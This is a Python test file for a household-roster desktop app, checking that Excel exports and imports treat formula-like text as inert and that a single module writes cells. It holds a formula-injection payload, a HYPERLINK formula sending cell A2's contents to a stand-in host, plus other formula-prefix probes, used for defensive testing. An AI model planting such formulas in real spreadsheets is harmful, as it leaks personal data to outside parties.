"""Exports are inert: text a person typed (a name, a visit note) that starts like a formula is written
as text, in every export and in the problems copy, and a roster cell holding such text is imported as
text with a note. A formula in an imported sheet gives its last computed value."""

from __future__ import annotations

import ast
import datetime as dt
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from records import make_id_number

from desktop.excel.writing import SheetData, write_workbook
from desktop.services.context import Ledger
from desktop.services.households.households import add_household, list_households
from desktop.services.visits.visits import record_visit
from desktop.services.xlsx.exporting import export_gaps, export_roster, export_visits
from desktop.services.xlsx.importing import import_roster

from .sheets import NATIONAL, family

LEAK = '=HYPERLINK("http://x?leak="&A2,"点击查看")'
STARTS = [LEAK, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=1"]
HEAD = make_id_number(dt.date(1970, 3, 1), 1)
DESKTOP = Path(__file__).resolve().parents[2] / "desktop"


def formulas_in(path: Path) -> list[str]:
    """Every <f> element of every sheet, read from the XML itself, and every cell openpyxl types 'f'."""
    found: list[str] = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode()
                found += [f"{name}: <f>" for _ in range(xml.count("<f>") + xml.count("<f "))]
    for sheet in load_workbook(path).worksheets:
        found += [
            f"{sheet.title}!{c.coordinate}" for row in sheet.iter_rows() for c in row if c.data_type == "f"
        ]
    return found


def texts_in(path: Path) -> set[str]:
    return {
        str(c.value) for sheet in load_workbook(path).worksheets for row in sheet.iter_rows() for c in row
    }


@pytest.fixture
def hostile(ledger: Ledger) -> Ledger:
    add_household(
        ledger,
        number="001",
        head={"name": LEAK, "id_number": HEAD},
        fields={"category": "脱贫户", "address": "+1+2", "phone": "13800000001"},
    )
    record_visit(
        ledger,
        household="001",
        visited_on=dt.date(2026, 10, 8),
        visitors=["@SUM(A1:A2)"],
        content=LEAK,
        problems="-2+3",
        place="=1",
    )
    return ledger


EXPORTS: dict[str, Callable[[Ledger, Path], object]] = {
    "roster": export_roster,
    "gaps": export_gaps,
    "visits": export_visits,
}


@pytest.mark.parametrize("what", sorted(EXPORTS))
def test_no_export_writes_a_formula(hostile: Ledger, tmp_path: Path, what: str) -> None:
    path = tmp_path / f"{what}.xlsx"
    EXPORTS[what](hostile, path)
    assert formulas_in(path) == []
    assert LEAK in texts_in(path)  # written, as the text it is


def test_the_one_writer_writes_any_text_as_text(tmp_path: Path) -> None:
    path = tmp_path / "任意.xlsx"
    write_workbook(path, [SheetData("表", STARTS, [STARTS, list(reversed(STARTS))], frozenset({0}))])
    assert formulas_in(path) == []
    sheet = load_workbook(path)["表"]
    as_xml_keeps_them = [text.replace("\r", "\n") for text in STARTS]  # XML reads a bare CR as LF
    assert [c.value for c in sheet[2]] == as_xml_keeps_them and all(c.data_type == "s" for c in sheet[2])


def test_a_formula_looking_cell_is_imported_as_text_with_a_note_and_the_problems_copy_is_inert(
    ledger: Ledger, tmp_path: Path
) -> None:
    rows = family("001", 0) + family("002", 1)
    rows[1]["姓名"] = LEAK
    rows[5]["民族"] = LEAK  # a problem: the copy repeats the value in its 问题 column
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(NATIONAL)
    for row in rows:
        sheet.append([row.get(h) for h in NATIONAL])
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # typed as text in Excel ('=HYPERLINK…)
    path = tmp_path / "台账.xlsx"
    workbook.save(path)
    copy = tmp_path / "问题.xlsx"
    report = import_roster(ledger, path, problems_out=copy)
    assert report.problems and formulas_in(copy) == []
    assert any(LEAK in text for text in texts_in(copy))
    warnings = [w.describe() for w in report.warnings]
    assert (
        '工作表“Sheet” 第 3 行 G 列（姓名）：“=HYPERLINK("http://x?leak="&A2…”像 Excel 公式，按文本导入'
        "（导出时也写成文本）" in warnings
    )

    rows[5]["民族"] = "藏族"
    report = import_roster(ledger, _as_text(rows, tmp_path / "好.xlsx"))
    assert report.written and not report.problems
    out = tmp_path / "出.xlsx"
    export_roster(ledger, out)
    assert formulas_in(out) == [] and LEAK in texts_in(out)


def _as_text(rows: list[dict[str, object]], path: Path) -> Path:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(NATIONAL)
    for row in rows:
        sheet.append([row.get(h) for h in NATIONAL])
    for line in sheet.iter_rows():
        for cell in line:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    workbook.save(path)
    return path


def test_a_formula_cell_gives_its_cached_value(ledger: Ledger, tmp_path: Path) -> None:
    """Excel saves a formula with its last result (<f> and <v>); the import takes the result."""
    path = _as_text(family("001", 0), tmp_path / "公式.xlsx")
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    head_name = '<c r="G2" t="inlineStr"><is><t>户主0</t></is></c>'
    assert head_name in sheet
    sheet = sheet.replace(head_name, '<c r="G2" t="str"><f>CONCATENATE("户主","0")</f><v>户主0</v></c>')
    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    report = import_roster(ledger, path)
    assert report.written and not report.problems
    assert [h.head_name for h in list_households(ledger)] == ["户主0"]


def test_only_writing_py_puts_values_into_cells() -> None:
    """Any export, now or later, goes through desktop/excel/writing.py: no other module of ours that
    uses openpyxl assigns a cell's value or makes a cell."""
    offenders = []
    users = [p for p in DESKTOP.rglob("*.py") if "openpyxl" in p.read_text(encoding="utf-8")]
    assert DESKTOP / "excel" / "problems.py" in users
    for path in users:
        if path == DESKTOP / "excel" / "writing.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            targets = node.targets if isinstance(node, ast.Assign) else []
            if any(isinstance(t, ast.Attribute) and t.attr == "value" for t in targets):
                offenders.append(f"{path.relative_to(DESKTOP)}:{node.lineno} .value =")
            if isinstance(node, ast.Name) and node.id in ("WriteOnlyCell", "Cell"):
                offenders.append(f"{path.relative_to(DESKTOP)}:{node.lineno} {node.id}")
    assert offenders == []
